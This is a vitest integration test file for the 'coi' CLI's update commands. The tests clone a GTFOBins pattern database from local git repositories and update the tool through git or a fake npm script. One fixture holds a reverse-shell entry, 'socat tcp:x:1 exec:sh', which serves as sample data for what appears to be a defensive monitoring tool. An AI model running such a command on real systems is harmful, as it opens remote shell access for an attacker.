import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../../../helpers/coi-cli.js';

/**
 * `coi update patterns` and `coi update core` on the real CLI, without the internet: the sources
 * are local git repositories, and `npm` is a stand-in on PATH that logs what it is asked. For
 * `core`, coi's bin/ and dist/ are copied into a git checkout and into a plain folder (an npm
 * install), as the update acts on the install it runs from.
 */

const ROOT = join(import.meta.dirname, '..', '..', '..', '..');
let root: string;
let home: string;
let fakeBin: string;
const npmLog = () => join(root, 'npm.log');

const GIT_ENV = {
  GIT_AUTHOR_NAME: 'coi test',
  GIT_AUTHOR_EMAIL: 'test@coi.invalid',
  GIT_COMMITTER_NAME: 'coi test',
  GIT_COMMITTER_EMAIL: 'test@coi.invalid',
};

function git(cwd: string, ...args: string[]): string {
  const r = spawnSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, ...GIT_ENV } });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

/** A git repository at `dir` with `files` committed. */
function repo(dir: string, files: Record<string, string>): string {
  mkdirSync(dir, { recursive: true });
  if (!existsSync(join(dir, '.git'))) git(dir, 'init', '--quiet', '--initial-branch=main');
  commit(dir, files);
  return dir;
}

function commit(dir: string, files: Record<string, string>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  git(dir, 'add', '-A');
  git(dir, 'commit', '--quiet', '-m', 'fixture');
}

function coi(bin: string, args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [bin, ...args], {
    cwd: root,
    encoding: 'utf8',
    env: {
      PATH: `${fakeBin}:${process.env.PATH}`,
      HOME: home,
      NPM_LOG: npmLog(),
      ...GIT_ENV,
      ...env,
    },
    timeout: 60_000,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const BIN = join(ROOT, 'bin', 'coi.js');

const SOCAT = '---\nfunctions:\n  reverse-shell:\n    - code: socat tcp:x:1 exec:sh\n---\n';
const LESS = '---\nfunctions:\n  shell:\n    - code: less /etc/profile\n---\n';

beforeAll(() => {
  ensureBuilt();
  root = mkdtempSync(join(tmpdir(), 'coi-update-test-'));
  home = join(root, 'home');
  mkdirSync(join(home, '.coi'), { recursive: true });
  fakeBin = join(root, 'fake-bin');
  mkdirSync(fakeBin);
  // npm view NAME version answers $NPM_LATEST; every call is logged.
  writeFileSync(
    join(fakeBin, 'npm'),
    '#!/bin/sh\necho "$*" >> "$NPM_LOG"\n[ "$1" = view ] && echo "$NPM_LATEST"\nexit 0\n',
  );
  chmodSync(join(fakeBin, 'npm'), 0o755);
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('coi update patterns', () => {
  const db = () => join(home, '.coi', 'gtfobins');

  it('clones a GTFOBins database, refreshes it from the remembered source, keeps it on a bad one', () => {
    const source = repo(join(root, 'gtfobins-src'), {
      '_gtfobins/socat.md': SOCAT,
      '_gtfobins/less.md': LESS,
    });
    const first = coi(BIN, ['update', 'patterns', '--source', source]);
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    expect(first.stdout).toBe(
      [
        '=== GTFOBins ===',
        `Cloning GTFOBins database from ${source} to ~/.coi/gtfobins...`,
        'GTFOBins database at ~/.coi/gtfobins: 2 programs, 1 with a reverse or bind shell.',
        '',
        'Done. Restart the monitoring daemon to apply new patterns.',
        '',
      ].join('\n'),
    );
    expect(readFileSync(join(db(), '_gtfobins', 'socat.md'), 'utf8')).toBe(SOCAT);

    commit(source, { '_gtfobins/ncat.md': SOCAT });
    const again = coi(BIN, ['update', 'patterns']);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stdout).toContain(
      `Updating GTFOBins database at ~/.coi/gtfobins from ${source}...`,
    );
    expect(again.stdout).toContain('3 programs, 2 with a reverse or bind shell.');

    const notDb = repo(join(root, 'not-gtfobins'), { 'README.md': 'hello\n' });
    const bad = coi(BIN, ['update', 'patterns', '--source', notDb]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toBe(
      `Error: could not update the GTFOBins database from ${notDb}: ${notDb} is not a GTFOBins database: it has no _gtfobins/ folder\n(the database at ~/.coi/gtfobins is unchanged)\n`,
    );
    const missing = join(root, 'no-such-repo');
    const gone = coi(BIN, ['update', 'patterns', '--source', missing]);
    expect(gone.code).toBe(1);
    expect(gone.stderr).toContain(
      `could not update the GTFOBins database from ${missing}: \`git clone`,
    );
    expect(gone.stderr).toContain('(the database at ~/.coi/gtfobins is unchanged)');
    // The old data, as it was, and no half-fetched copy beside it.
    expect(existsSync(join(db(), '_gtfobins', 'ncat.md'))).toBe(true);
    expect(git(db(), 'remote', 'get-url', 'origin').trim()).toBe(source);
    expect(spawnSync('ls', [join(home, '.coi')], { encoding: 'utf8' }).stdout).toBe('gtfobins\n');
  });

  it('refuses a folder in its place that is not a clone', () => {
    const other = join(root, 'home2');
    mkdirSync(join(other, '.coi', 'gtfobins'), { recursive: true });
    const r = coi(BIN, ['update', 'patterns'], { HOME: other });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(
      '~/.coi/gtfobins exists but is not a git repository; remove it and re-run to clone fresh',
    );
  });
});

/** A copy of coi at `dir` (package.json of `version`, bin/, dist/, node_modules linked). */
function installAt(dir: string, version: string): string {
  mkdirSync(dir, { recursive: true });
  cpSync(join(ROOT, 'bin'), join(dir, 'bin'), { recursive: true });
  cpSync(join(ROOT, 'dist'), join(dir, 'dist'), { recursive: true });
  cpSync(join(ROOT, 'assets'), join(dir, 'assets'), { recursive: true });
  symlinkSync(join(ROOT, 'node_modules'), join(dir, 'node_modules'));
  writeFileSync(join(dir, 'package.json'), packageJson(version));
  return join(dir, 'bin', 'coi.js');
}

function packageJson(version: string): string {
  return `${JSON.stringify({ name: 'coi', version, homepage: 'https://example.invalid/coi', type: 'module' })}\n`;
}

describe('coi update core', () => {
  it('updates a git checkout from its upstream branch, and only with --force', () => {
    const upstream = repo(join(root, 'upstream'), {
      'package.json': packageJson('0.1.0'),
      '.gitignore': 'bin/\ndist/\nassets/\nnode_modules\n',
    });
    const checkout = join(root, 'checkout');
    git(root, 'clone', '--quiet', upstream, checkout);
    const bin = installAt(checkout, '0.1.0');
    const head = git(checkout, 'rev-parse', '--short', 'HEAD').trim();

    const refused = coi(bin, ['update', 'core']);
    expect(refused.code, refused.stderr).toBe(0);
    expect(refused.stdout).toBe(
      [
        `Current version: v0.1.0 (development checkout at ${checkout}, ${head})`,
        '',
        'Warning: a development checkout is updated from git, not replaced by a release.',
        `Use --force to run git pull --ff-only && npm ci && npm run build in ${checkout}.`,
        '',
      ].join('\n'),
    );
    const current = coi(bin, ['update', 'core', '--check']);
    expect(current.code, current.stderr).toBe(0);
    expect(current.stdout).toContain(`Latest:          origin/main at ${head}`);
    expect(current.stdout).toContain('You are already on the latest version.');

    commit(upstream, { 'package.json': packageJson('0.2.0') });
    const newer = git(upstream, 'rev-parse', '--short', 'HEAD').trim();
    const check = coi(bin, ['update', 'core', '--check']);
    expect(check.code, check.stderr).toBe(0);
    expect(check.stdout).toContain(`Latest:          origin/main at ${newer}`);
    expect(check.stdout).toContain('Update available: 1 new commit on origin/main');
    expect(existsSync(npmLog())).toBe(false);

    const forced = coi(bin, ['update', 'core', '--force']);
    expect(forced.code, forced.stderr).toBe(0);
    expect(forced.stdout).toContain(`Successfully updated ${checkout} to ${newer}`);
    expect(git(checkout, 'rev-parse', '--short', 'HEAD').trim()).toBe(newer);
    expect(readFileSync(npmLog(), 'utf8')).toBe(
      `--prefix ${checkout} ci\n--prefix ${checkout} run build\n`,
    );
    rmSync(npmLog());
  });

  it('updates an npm install from the registry: --check, a question, --force', () => {
    const bin = installAt(join(root, 'npm-install'), '0.1.0');
    const latest = { NPM_LATEST: '0.1.0' };
    const same = coi(bin, ['update', 'core'], latest);
    expect(same.code, same.stderr).toBe(0);
    expect(same.stdout).toBe(
      'Current version: v0.1.0\nLatest release:  v0.1.0\n\nYou are already on the latest version.\n',
    );

    const newer = { NPM_LATEST: '0.10.0' };
    const check = coi(bin, ['update', 'core', '--check'], newer);
    expect(check.code, check.stderr).toBe(0);
    expect(check.stdout).toContain('Update available: v0.1.0 → v0.10.0');
    const asked = coi(bin, ['update', 'core'], newer);
    expect(asked.code).toBe(2);
    expect(asked.stderr).toContain(
      'Install update? — refusing without --force because stdin is not a terminal',
    );
    expect(readFileSync(npmLog(), 'utf8')).not.toContain('install');

    const forced = coi(bin, ['update', 'core', '-f'], newer);
    expect(forced.code, forced.stderr).toBe(0);
    expect(forced.stdout).toContain('Running: npm install --global coi@0.10.0');
    expect(forced.stdout).toContain('Successfully updated to v0.10.0');
    expect(readFileSync(npmLog(), 'utf8')).toContain('install --global coi@0.10.0\n');

    const broken = coi(bin, ['update', 'core', '--check'], { NPM_LATEST: '' });
    expect(broken.code).toBe(1);
    expect(broken.stderr).toContain(
      'failed to check for updates: the npm registry did not tell the latest coi',
    );
    rmSync(npmLog());
  });
});
